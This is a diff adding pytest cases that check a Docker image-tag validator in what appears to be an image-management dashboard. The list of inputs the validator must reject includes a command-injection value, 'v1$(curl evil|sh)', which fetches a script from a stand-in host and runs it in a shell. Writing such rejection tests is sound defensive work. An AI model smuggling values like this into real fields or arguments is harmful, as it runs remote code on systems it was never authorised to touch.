@@ -247,3 +247,22 @@ def test_property_a_valid_name_reaches_the_cluster_as_exactly_that_path(emulator
             assert err.status == 404
     seen = [(entry.method, entry.path) for entry in emulator.requests]
     assert seen == [("GET", "/image-manager/api/v1/repositories/" + name)]
+
+
+@pytest.mark.parametrize(
+    "tag", ["latest", "1.0", "v1.2.3-rc.1", "_x", "A_b-C.9", "x" * 128, "9" + "." * 127]
+)
+def test_a_docker_tag_is_valid(tag):
+    from imgdash.imagemanager import is_valid_tag
+
+    assert is_valid_tag(tag)
+
+
+@pytest.mark.parametrize(
+    "tag",
+    ["", ".x", "-x", "x" * 129, "v1$(curl evil|sh)", "a b", "a;b", "latest\n", "ü", "a/b", None],
+)
+def test_anything_else_is_not_a_tag(tag):
+    from imgdash.imagemanager import is_valid_tag
+
+    assert not is_valid_tag(tag)
